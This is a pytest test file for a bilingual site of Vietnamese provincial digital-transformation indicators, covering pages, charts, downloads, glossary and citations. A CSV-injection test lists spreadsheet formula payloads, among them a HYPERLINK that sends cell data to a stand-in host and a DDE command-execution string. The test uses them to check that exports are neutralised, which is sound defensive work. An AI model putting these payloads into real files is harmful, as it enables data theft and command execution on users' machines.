"""Compare, see and reuse: indicator pages, charts, downloads, glossary, citation, print."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from urllib.parse import urljoin, urlsplit

import pytest

from conftest import PROJECT_DIR, text_of

LANGUAGES = {"vi": ("", "chi-so"), "en": ("en/", "indicators")}
SVG_NS = "{http://www.w3.org/2000/svg}"


def indicator_path(language: str, indicator_id: str) -> str:
    prefix, segment = LANGUAGES[language]
    return f"{prefix}{segment}/{indicator_id}/"


def reporting(data: dict) -> dict[str, list[tuple[str, dict]]]:
    result: dict[str, list] = {}
    for province_id, province in data["provinces"].items():
        for figure in province["figures"]:
            result.setdefault(figure["indicator"], []).append((province_id, figure))
    return result


@pytest.mark.parametrize("language", LANGUAGES)
def test_each_indicator_page_lists_every_province_reporting_it(site, data, language):
    by_indicator = reporting(data)
    for indicator_id, indicator in data["indicators"].items():
        page = site.page(indicator_path(language, indicator_id))
        assert text_of(page.find("h1")) == indicator["name"][language]
        rows = page.select("table.cds-indicator-figures tbody tr")
        shown = sorted(text_of(row.find("th").find("a")) for row in rows)
        expected = sorted(data["provinces"][pid]["name"][language] for pid, _ in by_indicator.get(indicator_id, []))
        assert shown == expected, indicator_id


def test_indicator_pages_warn_when_periods_differ(site, data):
    by_indicator = reporting(data)
    for indicator_id, entries in by_indicator.items():
        periods = {figure.get("period") or figure.get("as_of") for _, figure in entries}
        for language in LANGUAGES:
            warning = site.page(indicator_path(language, indicator_id)).select_one(".cds-not-comparable")
            assert (warning is not None) == (len(periods) > 1), (indicator_id, periods)


def test_indicator_table_reads_in_a_sensible_order_without_javascript(site):
    rows = site.page(indicator_path("en", "dti")).select("table.cds-indicator-figures tbody tr")
    periods = [row.select("td")[1].find("time")["datetime"] for row in rows]
    assert periods == sorted(periods, reverse=True)


def test_tables_are_accessible_and_numbers_right_aligned(site):
    for path in ("", "en/", "so-sanh/", "en/compare/", indicator_path("vi", "pci"), "tinh/nghe-an/"):
        for table in site.page(path).select("table.cds-table"):
            assert table.find("caption").get_text(strip=True), path
            assert all(th.get("scope") == "col" for th in table.select("thead th")), path
            assert all(row.find("th", scope="row") for row in table.select("tbody tr")), path
            header = [th.get_text(strip=True) for th in table.select("thead th")]
            value_columns = [i for i, th in enumerate(table.select("thead th")) if "cds-num" in th.get("class", [])]
            assert value_columns, (path, header)


def test_comparison_tables_are_sortable_per_pillar(site, data):
    pillars = {i["pillar"] for i in data["indicators"].values()}
    for path in ("so-sanh/", "en/compare/"):
        tables = site.page(path).select("table.cds-sortable")
        assert len(tables) == len({data["indicators"][f["indicator"]]["pillar"] for p in data["provinces"].values() for f in p["figures"]})
        assert len(tables) <= len(pillars)
        total_rows = sum(len(t.select("tbody tr")) for t in tables)
        assert total_rows == sum(len(p["figures"]) for p in data["provinces"].values())
        # Machine values for sorting: plain numbers with a dot.
        for cell in tables[0].select("td.cds-num[data-sort]"):
            if cell["data-sort"]:
                float(cell["data-sort"])
    script = site.root / "assets" / "javascripts" / "sort-table.js"
    assert script.exists()
    for path in ("so-sanh/", "en/compare/"):
        sources = [s.get("src", "") for s in site.page(path).find_all("script")]
        assert any(src.endswith("assets/javascripts/sort-table.js") for src in sources)


def svg_elements(html_file) -> list[ET.Element]:
    """Every inline <svg> of a built page, parsed as XML: it must be well-formed SVG."""
    text = html_file.read_text(encoding="utf-8")
    return [ET.fromstring(match) for match in re.findall(r"<svg xmlns=\"http://www.w3.org/2000/svg\".*?</svg>", text, re.S)]


def test_every_chart_is_valid_svg_with_title_description_and_data_link(site, data):
    charts_seen = 0
    for file in site.html_files():
        path = site.path_of(file)
        page = site.page(path)
        for svg in svg_elements(file):
            if svg.get("role") != "img":
                continue  # Material's own icons are decorative
            charts_seen += 1
            title, desc = svg.find(f"{SVG_NS}title"), svg.find(f"{SVG_NS}desc")
            assert title is not None and title.text.strip(), path
            assert desc is not None and desc.text.strip(), path
            labelled = svg.get("aria-labelledby").split()
            assert labelled == [title.get("id"), desc.get("id")]
        for figure in page.select("figure.cds-chart"):
            link = figure.find("figcaption").find("a", href=True)
            target = urlsplit(urljoin("http://site/" + path, link["href"])).path.lstrip("/")
            assert (site.root / target).is_file(), (path, link["href"])
    assert charts_seen >= len(data["indicators"])


def test_charts_describe_their_key_figures(site):
    svg = site.page(indicator_path("en", "dti")).select_one("figure.cds-chart svg")
    desc = svg.find("desc").get_text()
    assert "52/63" in desc and "Nghe An" in desc
    bars = site.page(indicator_path("vi", "grdp-growth")).select_one("figure.cds-chart svg")
    assert "13,94%" in bars.find("desc").get_text()
    # Each bar carries its value as text, so colour is not the only cue.
    values = [t.get_text() for t in bars.select("text.cds-chart-value")]
    assert "13,94%" in values


def test_targets_have_progress_bars_and_provinces_a_time_axis(site, data):
    for language, path in (("vi", "tinh/nghe-an/"), ("en", "en/provinces/nghe-an/")):
        page = site.page(path)
        bars = page.select("svg.cds-progress")
        with_progress = [t for t in data["provinces"]["nghe-an"]["targets"] if "progress" in t]
        later = [report for t in data["provinces"]["nghe-an"]["targets"] for report in t.get("later_progress", ())]
        assert len(bars) == len(with_progress) + len(later)  # one bar for each report, first and later
        assert "8/11" in bars[0].find("desc").get_text() or "8 of 11" in bars[0].find("desc").get_text()
        timeline = page.select_one("#timeline-chart-nghe-an svg")
        assert timeline["role"] == "img" and not timeline.find("a")
        marks = timeline.select("g.cds-timeline-mark")
        items = page.select("ol.cds-timeline > li")
        assert len(marks) == len(items) == len(data["provinces"]["nghe-an"]["events"])
        # Mark n on the axis is item n of the list, which carries the links.
        assert [mark["data-event"] for mark in marks] == [item["id"] for item in items]
        assert [mark.find("text").get_text() for mark in marks] == [str(n) for n in range(1, len(items) + 1)]


def read_download(site, path: str) -> bytes:
    return (site.root / path).read_bytes()


def test_csv_and_json_hold_every_figure_with_its_source(site, data):
    total = sum(len(p["figures"]) for p in data["provinces"].values())
    rows = list(csv.DictReader(io.StringIO(read_download(site, "data/cds-figures.csv").decode("utf-8-sig"))))
    assert len(rows) == total
    document = json.loads(read_download(site, "data/cds-figures.json"))
    assert len(document["figures"]) == total
    assert len(document["targets"]) == sum(len(p["targets"]) for p in data["provinces"].values())
    assert len(document["events"]) == sum(len(p["events"]) for p in data["provinces"].values())
    for row, item in zip(rows, document["figures"]):
        assert row["figure_id"] == item["figure_id"]
        assert row["source_id"] in data["sources"]
        assert row["source_title"] == data["sources"][row["source_id"]]["title"]
        if row["value"]:
            assert float(row["value"]) == item["value"]
            assert "," not in row["value"]
        for key in ("period", "as_of", "source_published"):
            if row[key]:
                assert re.fullmatch(r"\d{4}(-(\d{2}|Q\d|H\d)(-\d{2})?)?", row[key]), row[key]
    vsip = next(r for r in rows if r["value"] == "948.4")
    assert vsip["province_id"] == "nghe-an" and vsip["unit_en"] == "million USD"


def test_one_download_per_province_matches_its_figures(site, data):
    for province_id, province in data["provinces"].items():
        rows = list(csv.DictReader(io.StringIO(read_download(site, f"data/provinces/{province_id}.csv").decode("utf-8-sig"))))
        assert len(rows) == len(province["figures"])
        document = json.loads(read_download(site, f"data/provinces/{province_id}.json"))
        assert {f["province_id"] for f in document["figures"]} == {province_id}


def test_pages_link_their_downloads_with_the_file_size(site, data):
    for language, path in (("vi", "tinh/thanh-hoa/"), ("en", "en/provinces/thanh-hoa/")):
        page = site.page(path)
        links = page.select(".cds-downloads a[download]")
        targets = {urlsplit(urljoin("http://site/" + path, a["href"])).path.lstrip("/"): a for a in links}
        assert "data/provinces/thanh-hoa.csv" in targets and "data/cds-figures.json" in targets
        for target, link in targets.items():
            size_kb = (site.root / target).stat().st_size / 1024
            label = link.find_next_sibling("small").get_text()
            shown = float(re.search(r"([\d.,]+) KB", label).group(1).replace(".", "").replace(",", ".") if language == "vi" else re.search(r"([\d.,]+) KB", label).group(1).replace(",", ""))
            assert abs(shown - size_kb) < 0.06, (target, label, size_kb)


def test_download_sizes_measured_without_writing_are_the_written_sizes(tmp_path, monkeypatch):
    """An English build run on its own (`mkdocs build -f mkdocs.en.yml`) links the files
    without writing them: the sizes it shows must be those of the files."""
    from cds import downloads
    from cds.dataset import read_dataset

    dataset = read_dataset(PROJECT_DIR / "data", PROJECT_DIR / "schema", PROJECT_DIR)
    written = downloads.write_downloads(dataset, tmp_path)
    for info in written.values():
        assert (tmp_path / info.path).stat().st_size == info.size, info.path
    monkeypatch.setattr(downloads, "_written", None)  # as in a process that wrote nothing
    assert downloads.download_links(dataset) == written
    document = json.loads((tmp_path / "data" / "cds-figures.json").read_bytes())
    assert list(document) == ["title", "licence", "columns", "figures", "targets", "events", "sources"]


# Texts a spreadsheet would run as a formula (OWASP, "CSV Injection"), and texts it would not.
FORMULAS = ['=HYPERLINK("https://example.com/?d="&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
NOT_FORMULAS = ["a=b", "Nghệ An: +12 bậc", "5-6", "e-Gov"]


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(project_copy, tmp_path):
    """Source titles and notes that begin like a formula are neutralised in the CSV files by a
    leading `'`, and given exactly in the JSON files; numbers, negative ones too, stay numbers."""
    import yaml

    from cds import downloads
    from cds.dataset import read_dataset

    sources_file = project_copy / "data" / "sources.yml"
    sources = yaml.safe_load(sources_file.read_text(encoding="utf-8"))
    mixed = [text for pair in zip(FORMULAS, NOT_FORMULAS + [None] * len(FORMULAS)) for text in pair if text]
    titles = {source["id"]: mixed[number % len(mixed)] for number, source in enumerate(sources["sources"])}
    for source in sources["sources"]:
        source["title"] = titles[source["id"]]
    sources_file.write_text(yaml.safe_dump(sources, allow_unicode=True, sort_keys=False), encoding="utf-8")
    province_file = project_copy / "data" / "provinces" / "nghe-an.yml"
    province = yaml.safe_load(province_file.read_text(encoding="utf-8"))
    figure = province["figures"][0]
    figure["note"] = {"vi": "-5 so với 2022", "en": "@ the end of 2022"}
    figure["ranks"] = [{"scope": "national", "position": 20, "total": 63, "change": -3, "change_since": "2021"}]
    province_file.write_text(yaml.safe_dump(province, allow_unicode=True, sort_keys=False), encoding="utf-8")

    dataset = read_dataset(project_copy / "data", project_copy / "schema", project_copy)
    downloads.write_downloads(dataset, tmp_path)
    raw = (tmp_path / "data" / "cds-figures.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    document = json.loads((tmp_path / "data" / "cds-figures.json").read_bytes())
    used = {row["source_title"] for row in rows}
    assert used & set(FORMULAS) == set(), "a formula is written as it is"
    assert {"'" + title for title in FORMULAS} & used and set(NOT_FORMULAS) & used, "the data should hold both kinds"
    for row, item in zip(rows, document["figures"], strict=True):
        title = titles[row["source_id"]]
        assert row["source_title"] == ("'" + title if title in FORMULAS else title)
        assert item["source_title"] == title
    first = next(row for row in rows if row["province_id"] == "nghe-an" and row["indicator_id"] == figure["indicator"])
    assert (first["note_vi"], first["note_en"]) == ("'-5 so với 2022", "'@ the end of 2022")
    assert document["figures"][rows.index(first)]["note_vi"] == "-5 so với 2022"
    # Every text is quoted, so that no separator a spreadsheet may choose (`;`) starts a cell
    # inside it; numbers are bare, and the negative rank change is a number, not text.
    lines = raw.splitlines()
    assert lines[0].startswith('"figure_id","province_id",')
    line = next(line for line in lines if line.startswith(f'"{first["figure_id"]}",'))
    cells = dict(zip(downloads.FIGURE_COLUMNS, next(csv.reader([line], quoting=csv.QUOTE_NONNUMERIC))))
    assert (cells["rank_change"], cells["rank_position"]) == (-3, 20)
    assert ",-3," in line and document["figures"][rows.index(first)]["rank_change"] == -3


@pytest.mark.parametrize("text, shown", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
    ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("\nx", "'\nx"), ("\tx", "'\tx"),
    (" =1+2", "' =1+2"), ("\u00a0=1+2", "'\u00a0=1+2"), (" \n @A1", "' \n @A1"),
    ("a=1+2", "a=1+2"), ("x\n=1", "x\n=1"), ("'=1", "'=1"), ("", ""), ("1-2", "1-2"), ("Đà Nẵng", "Đà Nẵng"),
])
def test_spreadsheet_text_follows_owasp(text, shown):
    """OWASP: a cell must not begin with =, +, -, @, tab, carriage return or line feed; this
    site also looks past leading spaces, which spreadsheets may trim when they import."""
    from cds.downloads import spreadsheet_text

    assert spreadsheet_text(text) == shown


def acronyms_in_data(data) -> set[str]:
    """Acronyms in reader-facing text: runs of two or more capitals, leaving out document
    numbers (09-NQ/TU, 202/2025/QH15), roman numerals and period codes."""
    texts = []

    def collect(value):
        if isinstance(value, dict):
            for key, item in value.items():
                if key in ("vi", "en", "title", "author", "outlet") and isinstance(item, str):
                    texts.append(item)
                elif key not in ("documents", "document", "resolution", "id", "url"):
                    collect(item)
        elif isinstance(value, list):
            for item in value:
                collect(item)

    collect(data["indicators"])
    collect(data["provinces"])
    collect(list(data["sources"].values()))
    found = set()
    for text in texts:
        text = re.sub(r"\b[\w.]*\d[\w.]*(?:[-/][\w.]+)+", " ", text)  # document numbers
        for token in re.findall(r"(?<!\w)([A-ZĐ][A-ZĐ0-9]*[A-ZĐ](?: INDEX| Index)?|VNeID|5G)(?!\w)", text):
            if not re.fullmatch(r"[IVX]+|Q\d|H\d", token):
                found.add(token)
    return found


def test_glossary_covers_every_acronym_used_in_the_data(data):
    import yaml

    glossary = yaml.safe_load((PROJECT_DIR / "data" / "glossary.yml").read_text(encoding="utf-8"))["terms"]
    spellings = {s for term in glossary for s in [term.get("abbreviation"), *term.get("also", [])] if s}
    used = acronyms_in_data(data)
    assert {"DTI", "PCI", "FDI", "GRDP", "LGSP", "OCOP"} <= used
    assert used <= spellings, sorted(used - spellings)


def test_glossary_page_in_both_languages(site):
    import yaml

    glossary = yaml.safe_load((PROJECT_DIR / "data" / "glossary.yml").read_text(encoding="utf-8"))["terms"]
    for language, path in (("vi", "thuat-ngu/"), ("en", "en/glossary/")):
        entries = site.page(path).select("dl.cds-glossary > dt")
        assert len(entries) == len(glossary)
        names = " ".join(dt.get_text(" ", strip=True) for dt in entries)
        for term in glossary:
            assert term["name"][language] in names


@pytest.mark.parametrize("path, title", [("tinh/nghe-an/", "Chỉ số chuyển đổi số cấp tỉnh"), ("en/provinces/nghe-an/", "Provincial Digital Transformation Index"), ("", "Chỉ số chuyển đổi số cấp tỉnh"), ("en/about/", "Provincial Digital Transformation Index")])
def test_acronyms_are_explained_on_hover(site, path, title):
    abbreviations = {abbr.get_text(): abbr["title"] for abbr in site.page(path).find_all("abbr")}
    assert abbreviations.get("DTI") == title


def test_every_page_suggests_a_citation_and_states_the_licence(site):
    today = datetime.date.today()
    for file in site.html_files():
        path = site.path_of(file)
        if path.endswith("404.html"):
            continue
        page = site.page(path)
        citation = page.select_one("aside.cds-citation").get_text(" ", strip=True)
        footer = page.select_one(".md-copyright").get_text(" ", strip=True)
        assert "CC BY 4.0" in footer
        if path.startswith("en/"):
            assert citation.startswith("Cite this page: Source:") and "retrieved" in citation
            assert today.strftime("%-d %B %Y") in footer
        else:
            assert citation.startswith("Trích dẫn trang này: Nguồn:") and "truy cập ngày" in citation
            assert today.strftime("%d/%m/%Y") in footer


def test_print_stylesheet_hides_navigation(site):
    css = (site.root / "assets" / "stylesheets" / "cds.css").read_text(encoding="utf-8")
    start = css.index("@media print")
    depth, end = 0, start
    for end in range(css.index("{", start), len(css)):
        depth += {"{": 1, "}": -1}.get(css[end], 0)
        if depth == 0:
            break
    inner = css[css.index("{", start) + 1 : end]
    hidden = {
        selector.strip()
        for selectors, declarations in re.findall(r"([^{}]+)\{([^{}]*)\}", inner)
        if re.search(r"display:\s*none", declarations)
        for selector in selectors.split(",")
    }
    assert {".md-header", ".md-tabs", ".md-sidebar", ".md-footer", ".md-search"} <= hidden
    assert re.search(r"@page\s*\{\s*size:\s*A4", css)
